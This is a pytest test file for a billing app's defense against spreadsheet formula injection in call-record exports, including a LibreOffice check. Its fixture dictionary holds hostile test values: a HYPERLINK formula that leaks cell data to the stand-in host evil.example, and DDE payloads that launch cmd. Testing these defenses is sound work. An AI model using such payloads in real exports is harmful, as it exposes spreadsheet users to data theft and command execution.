"""Spreadsheet formulas in exports: text that starts with = + - @ or a tab is written with a quote in
front (billing.formulas), never run by a spreadsheet; numbers stay numbers and E.164 numbers stay as
they are; this site's importer reads the neutralized export back to the same values."""

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime, timedelta

import pytest

from billing.formulas import neutralize_formula, restore_neutralized
from tests.factories import OrganizationFactory
from tests.usage.factories import PersonFactory, csv_bytes, export_row
from tests.usage.xlsx_reader import read_workbook
from usage.columns import PSTN_EXPORT_COLUMNS
from usage.models import CallRecord, Person
from usage.selectors import parameters_for
from usage.services.exports.files import build_file
from usage.services.ingest import import_file

pytestmark = pytest.mark.django_db

HOSTILE = {
    "User Display Name": '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "Operator": "-cmd|' /C calc'!A0",
    "Number Type": "+SUM(1,2)",
    "Destination Dialed": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Conference ID": "\t=1+1",
    "Administrative Units": "'=already quoted by someone",
    "Caller ID": "+1 206 555 0***",  # an obscured number: text that starts with +
    "Destination Number": "+14255550100",  # E.164: a number to any spreadsheet, kept as it is
}
FIELDS = dict(PSTN_EXPORT_COLUMNS)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=x", "''=x"),
        ("+1 206 555 0***", "'+1 206 555 0***"),
        ("+14255550100", "+14255550100"),
        ("+0123", "'+0123"),
        ("+1", "'+1"),
        ("+12", "+12"),
        ("+123456789012345", "+123456789012345"),
        ("+1234567890123456", "'+1234567890123456"),
        ("+1\u0663", "'+1\u0663"),  # an Arabic-Indic digit is not a digit of E.164
        ("'quoted", "'quoted"),
        ("Alice", "Alice"),
        ("", ""),
    ],
)
def test_text_that_could_start_a_formula_gets_one_quote_and_reads_back_the_same(text, written):
    assert neutralize_formula(text) == written
    assert restore_neutralized(written) == text


@pytest.fixture
def hostile_calls(org, people, rates, funded):
    yesterday = datetime.now(UTC).replace(hour=9, minute=0, second=0, microsecond=0) - timedelta(days=1)
    # Written as the export writes them: the importer takes the quotes off, and the records hold HOSTILE.
    hostile = {name: neutralize_formula(text) for name, text in HOSTILE.items()}
    rows = [export_row(start=yesterday, **hostile), export_row(start=yesterday + timedelta(hours=1))]
    import_file(org, io.BytesIO(csv_bytes(rows)), "calls.csv", "pstn")
    record = CallRecord.objects.get(organization=org, start_time=yesterday)
    assert [getattr(record, FIELDS[name]) for name in HOSTILE] == list(HOSTILE.values())
    return yesterday.date()


def export_zip(org, day, path):
    build_file(org, "csv_zip", parameters_for("pstn", day, day, {}), str(path), public_id="formulas")
    with zipfile.ZipFile(path) as archive:
        (member,) = [name for name in archive.namelist() if name.startswith("PSTN.calls.")]
        return member, archive.read(member)


def test_the_original_format_neutralizes_text_cells_and_keeps_numbers_and_e164(org, hostile_calls, tmp_path):
    _, data = export_zip(org, hostile_calls, tmp_path / "export.zip")
    header, hostile_row, plain_row = csv.reader(io.StringIO(data.decode()))
    written = dict(zip(header, hostile_row, strict=True))
    for name, text in HOSTILE.items():
        assert written[name] == neutralize_formula(text), name
    assert written["Caller ID"] == "'+1 206 555 0***" and written["Destination Number"] == "+14255550100"
    assert written["User Display Name"].startswith("'=HYPERLINK(")
    assert written["Charge"] == "0.00" and written["Duration Seconds"] == "300"
    assert dict(zip(header, plain_row, strict=True))["User Display Name"] == "Alice"


def test_this_site_s_importer_reads_a_neutralized_export_back_to_the_same_values(org, hostile_calls, tmp_path):
    path = tmp_path / "Calls.Export.formulas.zip"
    export_zip(org, hostile_calls, path)
    other = OrganizationFactory(name="Other", slug="other-formulas")
    for person in Person.objects.filter(organization=org):
        PersonFactory(organization=other, upn=person.upn, licenses=person.licenses, usage_location=person.usage_location)
    with open(path, "rb") as handle:
        assert import_file(other, handle, path.name, "pstn").created == 2
    fields = [FIELDS[name] for name in HOSTILE]
    original = CallRecord.objects.filter(organization=org).order_by("start_time").values_list("usage_id", *fields)
    read_back = CallRecord.objects.filter(organization=other).order_by("start_time").values_list("usage_id", *fields)
    assert list(read_back) == list(original)
    assert CallRecord.objects.get(organization=other, display_name=HOSTILE["User Display Name"])


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed (apt-get install -y libreoffice-calc-nogui)")
def test_libreoffice_runs_no_formula_of_the_exported_csv(org, hostile_calls, tmp_path):
    member, data = export_zip(org, hostile_calls, tmp_path / "export.zip")
    ours = tmp_path / member
    ours.write_bytes(data)
    # The control: the same file without the quotes, which LibreOffice does run (so the test can fail).
    unsafe = tmp_path / "unsafe.csv"
    with open(unsafe, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows([restore_neutralized(v) for v in row] for row in csv.reader(io.StringIO(data.decode())))
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless", "--convert-to", "xlsx",
         "--outdir", str(tmp_path), str(ours), str(unsafe)],
        capture_output=True, timeout=180, check=False,
    )
    assert done.returncode == 0, done.stderr
    sheet = next(iter(read_workbook(ours.with_suffix(".xlsx")).values()))
    header = [value for _, value, _ in sheet[0]]
    cells = dict(zip(header, sheet[1], strict=False))
    assert not [cell for row in sheet for cell in row if cell[0] == "f"]
    assert cells["User Display Name"][:2] == ("s", neutralize_formula(HOSTILE["User Display Name"]))
    assert cells["Caller ID"][:2] == ("s", "'+1 206 555 0***")
    # E.164: LibreOffice reads a number (without its plus), not a formula.
    assert cells["Destination Number"][:2] == ("n", 14255550100.0)
    control = next(iter(read_workbook(unsafe.with_suffix(".xlsx")).values()))
    assert [cell for row in control for cell in row if cell[0] == "f"], "LibreOffice ran no formula of the unsafe file"
